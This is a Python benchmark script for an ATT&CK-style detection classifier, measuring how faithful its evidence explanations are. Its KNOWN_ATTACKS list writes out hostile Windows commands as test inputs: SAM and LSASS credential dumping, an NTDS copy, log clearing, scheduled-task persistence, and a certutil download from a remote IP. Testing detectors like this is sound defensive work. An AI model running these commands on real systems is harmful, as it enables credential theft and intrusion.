"""How faithful `explain` is: what a score loses without the named spans, and without as many random ones.

`python -m model_server.bench.faithfulness [RELEASE] [--events FILE]`; without a file it explains the release's golden
events. Every event in which a technique was found counts. Known attacks show whether it makes sense, too.
"""

from __future__ import annotations

import argparse
from collections.abc import Mapping, Sequence
from pathlib import Path
from random import Random
from typing import Any, NamedTuple

import numpy as np
import orjson

from mitre_core.wire import BENIGN, STATUS_OK, UNKNOWN

from ..calibration import best_techniques, deciding_windows, score_logits
from ..classifier import Classifier
from ..explain import Occlusion, Span, find_evidence, leave_out, plan_occlusion, quote_evidence
from ..models import RELEASES, SHIPPED_DEFAULT, find_releases
from ..release import load_release

DRAWS = 10  # of random spans, for each event

# Attacks with what an analyst would point at: one of these words must be in the evidence.
KNOWN_ATTACKS: tuple[tuple[str, tuple[str, ...]], ...] = (
    (r"reg save HKLM\SAM C:\Temp\s.hiv", ("sam",)),
    (r"reg.exe save HKLM\SECURITY C:\Temp\sec.hiv", ("security",)),
    (r"cmd.exe /c reg query HKLM\SECURITY\SAM\Domains\Account", ("sam", "security")),
    (r"procdump64.exe -accepteula -ma lsass.exe C:\Temp\out.dmp", ("lsass", "-ma")),
    (r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Temp\x.dmp full", ("comsvcs", "minidump")),
    ('ntdsutil "ac i ntds" "ifm" "create full C:\\Temp\\x" q q', ("ntds", "ifm")),
    ("vssadmin create shadow /for=C:", ("shadow", "vssadmin", "create")),
    ("net user", ("user",)),
    ("netstat -ano", ("netstat", "-ano")),
    ("schtasks /create /sc onlogon /tn updater /tr C:\\Temp\\u.exe /ru system", ("schtasks", "create", "onlogon")),
    ("wevtutil cl Security", ("wevtutil", "cl")),
    ("certutil -urlcache -split -f http://198.51.100.7/a.exe C:\\Temp\\a.exe", ("urlcache", "certutil", "http")),
)


class Fall(NamedTuple):
    """The score of an event's label: as it is, without the named spans, without random ones (their mean)."""

    whole: float
    without_named: float
    without_random: float
    named_share: float  # of the pieces of the text


class Faithfulness(NamedTuple):
    """Over all events."""

    events: int  # in which a technique was found
    explained: int  # with at least one span, and others to compare with
    mean: Fall
    won: float  # share of events that lose more without the named spans than without random ones


def measure_faithfulness(classifier: Classifier, events: Sequence[Mapping[str, Any]], seed: int = 0) -> Faithfulness:
    """Explain every event in which a technique is found, and leave out what was named."""
    random = Random(seed)
    results = classifier.classify(events)
    found = [
        event
        for event, result in zip(events, results, strict=True)
        if result.status == STATUS_OK and result.technique_id not in (BENIGN, UNKNOWN)
    ]
    falls = [fall for event in found if (fall := _measure_one(classifier, event, random)) is not None]
    mean = Fall(*np.mean(falls, axis=0).tolist()) if falls else Fall(*[float("nan")] * len(Fall._fields))
    won = sum(fall.without_named < fall.without_random for fall in falls)
    return Faithfulness(len(found), len(falls), mean, won / max(1, len(falls)))


def find_sense(classifier: Classifier) -> dict[str, tuple[bool, tuple[str, ...]]]:
    """Of the known attacks in which a technique is found: whether the evidence makes sense, and what it is."""
    sense = {}
    for command, words in KNOWN_ATTACKS:
        event = {"EventCode": "1", "SourceName": "Microsoft-Windows-Sysmon", "CommandLine": command}
        (result,) = classifier.classify([event])
        if result.technique_id in (BENIGN, UNKNOWN):
            continue
        occlusion, spans, _ = _explain(classifier, event)
        evidence = quote_evidence(occlusion, spans, event)
        sense[command] = any(word in " ".join(evidence).lower() for word in words), evidence
    return sense


def format_faithfulness(title: str, measured: Faithfulness) -> str:
    """The figures in words."""
    mean = measured.mean
    return (
        f"{title}: {measured.events} events with a technique, {measured.explained} of them explained\n"
        f"mean score of the technique   {mean.whole:.3f}\n"
        f"  without the named spans     {mean.without_named:.3f}  ({mean.named_share:.0%} of the pieces)\n"
        f"  without as many random ones {mean.without_random:.3f}\n"
        f"the named ones cost more in   {measured.won:.1%} of the events"
    )


def _measure_one(classifier: Classifier, event: Mapping[str, Any], random: Random) -> Fall | None:
    """None where nothing is named, or nothing is left to draw from."""
    occlusion, spans, logits = _explain(classifier, event)
    named = [piece for piece in occlusion.pieces if any(s.start <= piece.start and piece.end <= s.end for s in spans)]
    if not named or len(named) == len(occlusion.pieces):
        return None
    texts = [leave_out(occlusion.text, named), *_draw(occlusion, named, random)]
    rows = score_logits(
        np.concatenate([logits[None], classifier.logits(texts)]), classifier.release.calibration.temperature
    )
    whole, without_named, *without_random = rows[:, best_techniques(rows[:1])[0]].tolist()
    return Fall(whole, without_named, float(np.mean(without_random)), len(named) / len(occlusion.pieces))


def _explain(classifier: Classifier, event: Mapping[str, Any]) -> tuple[Occlusion, list[Span], np.ndarray]:
    """The deciding window cut up, its evidence, and its logits (labels,)."""
    temperature = classifier.release.calibration.temperature
    (prepared,) = classifier.prepare([event])
    rows = classifier.logits(prepared.windows)
    deciding = int(deciding_windows(score_logits(rows, temperature), np.array([len(rows)]))[0])
    occlusion = plan_occlusion(prepared.windows[deciding])
    spans = find_evidence(occlusion, rows[deciding], classifier.logits(occlusion.variants), temperature)
    return occlusion, spans, rows[deciding]


def _draw(occlusion: Occlusion, named: Sequence[Span], random: Random) -> list[str]:
    others = [piece for piece in occlusion.pieces if piece not in named]
    size = min(len(named), len(others))
    return [leave_out(occlusion.text, random.sample(others, size)) for _ in range(DRAWS)]


def main() -> None:
    """Measure one release and print the figures."""
    parser = argparse.ArgumentParser(description=__doc__)
    (shipped,) = find_releases(RELEASES, [SHIPPED_DEFAULT])
    parser.add_argument("release", nargs="?", type=Path, default=shipped)
    parser.add_argument("--events", type=Path, help="one event a line, instead of the golden ones")
    options = parser.parse_args()
    classifier = Classifier.load(options.release)
    if options.events:
        events = [orjson.loads(line) for line in options.events.read_bytes().splitlines() if line.strip()]
    else:
        events = [case.event for case in load_release(options.release).golden]
    print(format_faithfulness(classifier.release.title, measure_faithfulness(classifier, events)))
    sense = find_sense(classifier)
    print(
        f"known attacks explained by what an analyst would point at: {sum(ok for ok, _ in sense.values())}/{len(sense)}"
    )
    for command, (makes_sense, evidence) in sense.items():
        print(f"  {'+' if makes_sense else '-'} {command}\n      {' | '.join(evidence)}")


if __name__ == "__main__":
    main()
